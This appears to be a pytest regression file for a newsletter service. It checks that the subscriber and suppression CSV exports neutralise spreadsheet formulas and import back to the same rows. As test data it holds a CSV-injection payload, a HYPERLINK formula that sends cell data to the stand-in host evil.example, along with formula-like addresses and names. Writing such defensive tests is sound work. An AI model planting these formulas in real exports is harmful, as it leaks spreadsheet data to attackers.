"""Every CSV the service writes is safe in a spreadsheet, and imports back to the same rows.

Issue 14, item 2: a bounce's `Diagnostic-Code: =HYPERLINK(…)` landed raw in the
suppressions export, and an address such as `=1+2@example.com` raw in the subscribers
export, where a spreadsheet runs them as formulas.
"""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from newsletter.bounces import policy as bounces
from newsletter.core import db
from newsletter.core.config import get_settings
from newsletter.core.models import Subscriber, Suppression
from newsletter.core.tokens import make_verp_token
from newsletter.subscribers import suppressions
from newsletter.web.admin import subscribers as subscriber_pages
from newsletter.web.app import create_app
from tests.conftest import ROOT
from tests.factories import add_reader

CORPUS = ROOT / "tests" / "data" / "bounces"
FIXED_TOKEN = "s7d42-0123456789abcdef0123"  # the VERP token written into the corpus files
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")'
# Addresses email-validator takes that begin the way a formula does.
FORMULA_ADDRESSES = ["=1+2@example.com", "+tag@example.com", "-a@example.com"]
# What a spreadsheet takes for a formula: the first character, after any leading space.
RUNS_AS_FORMULA = re.compile(r"^\s*[=+\-@]|^[\t\r\n]")


@pytest.fixture
def client(clean_db: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[TestClient]:
    monkeypatch.setattr(subscriber_pages, "_uploads_dir", lambda: tmp_path)
    with TestClient(create_app(), base_url="http://testserver") as test_client:
        login = test_client.get("/admin/login")
        signed_in = test_client.post(
            "/admin/login",
            data={"token": get_settings().admin_token, "csrf_token": _csrf(login.text)},
            follow_redirects=False,
        )
        assert signed_in.status_code == 303, signed_in.text
        yield test_client


def _csrf(page: str) -> str:
    match = re.search(r'name="csrf_token" value="([^"]+)"', page)
    assert match
    return match.group(1)


def formula_cells(text: str) -> list[str]:
    return [
        cell for row in csv.reader(io.StringIO(text)) for cell in row if RUNS_AS_FORMULA.match(cell)
    ]


def bounce_with_diagnostic(email: str, diagnostic: str) -> None:
    """A real DSN for the reader (a VERP token we made), its Diagnostic-Code the sender's."""
    reader = add_reader(email)
    raw = (CORPUS / "postfix_user_unknown.eml").read_text()
    raw = raw.replace(FIXED_TOKEN, make_verp_token(get_settings().secret_key, reader))
    raw = raw.replace("leitora@example.com", email)
    raw = re.sub(
        r"Diagnostic-Code: smtp; 550 5\.1\.1 .*?\n(?=\n)",
        f"Diagnostic-Code: {diagnostic}\n",
        raw,
        flags=re.DOTALL,
    )
    with db.session_scope() as session:
        outcome = bounces.process_message(session, raw.encode(), settings=get_settings())
    assert outcome.action == "suppressed", outcome


def test_a_bounces_diagnostic_is_no_formula_in_the_suppressions_export(
    client: TestClient, tmp_path: Path
) -> None:
    bounce_with_diagnostic("leitora@example.com", HYPERLINK)
    with db.session_scope() as session:
        suppressions.add(session, email="=1+2@example.com", reason="@manual")
        assert HYPERLINK in session.scalars(select(Suppression.detail)).all()
    exported = client.get("/admin/suppressions/export.csv")
    assert exported.status_code == 200
    assert formula_cells(exported.text) == []
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert rows[0]["detail"] == "'" + HYPERLINK  # shown as text, kept whole
    # The command line writes the same file.
    written = tmp_path / "suppressions.csv"
    command = subprocess.run(
        [sys.executable, "-m", "newsletter", "suppressions", "export", "-o", str(written)],
        cwd=ROOT,
        env={**os.environ, "NEWSLETTER_DATABASE_URL": get_settings().database_url},
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert command.returncode == 0, command.stderr
    assert formula_cells(written.read_text()) == []
    assert list(csv.reader(io.StringIO(written.read_text()))) == list(
        csv.reader(io.StringIO(exported.text))
    )


def test_an_exported_suppression_list_imports_to_the_same_addresses(client: TestClient) -> None:
    with db.session_scope() as session:
        for address in [*FORMULA_ADDRESSES, "'quoted@example.com", "plain@example.com"]:
            suppressions.add(session, email=address)
    exported = client.get("/admin/suppressions/export.csv").text
    assert formula_cells(exported) == []
    with db.session_scope() as session:
        before = sorted(e or "" for e in session.scalars(select(Suppression.email)))
        session.execute(Suppression.__table__.delete())
    page = client.get("/admin/suppressions")
    imported = client.post(
        "/admin/suppressions/import",
        data={"csrf_token": _csrf(page.text)},
        files=[("file", ("list.csv", exported.encode(), "text/csv"))],
    )
    assert imported.status_code == 200 and "5 added" in imported.text, imported.text
    with db.session_scope() as session:
        assert sorted(e or "" for e in session.scalars(select(Suppression.email))) == before


def test_an_exported_subscriber_list_is_safe_and_imports_to_the_same_readers(
    client: TestClient,
) -> None:
    for address in FORMULA_ADDRESSES:
        add_reader(address, name="@SUM(A1:A9)")
    add_reader("ana@example.com", name="Ana")
    exported = client.get("/admin/subscribers/export.csv")
    assert exported.status_code == 200
    assert formula_cells(exported.text) == []
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [r["email"] for r in rows] == [f"'{a}" for a in FORMULA_ADDRESSES] + ["ana@example.com"]

    # Every reader gone, then the very file the dashboard gave uploaded again.
    with db.session_scope() as session:
        before = sorted(session.scalars(select(Subscriber.email)))
        names = sorted(session.scalars(select(Subscriber.name)))
        session.execute(Subscriber.__table__.delete())
    form = client.get("/admin/subscribers/import")
    dry_run = client.post(
        "/admin/subscribers/import",
        data={"csrf_token": _csrf(form.text)},
        files=[("file", ("subscribers.csv", exported.content, "text/csv"))],
    )
    assert dry_run.status_code == 200, dry_run.text
    upload_id = re.search(r'name="upload_id" value="([^"]+)"', dry_run.text)
    assert upload_id, dry_run.text
    done = client.post(
        "/admin/subscribers/import/confirm",
        data={"csrf_token": _csrf(form.text), "upload_id": upload_id.group(1)},
    )
    assert done.status_code == 200, done.text
    with db.session_scope() as session:
        assert sorted(session.scalars(select(Subscriber.email))) == before
        assert sorted(session.scalars(select(Subscriber.name))) == names
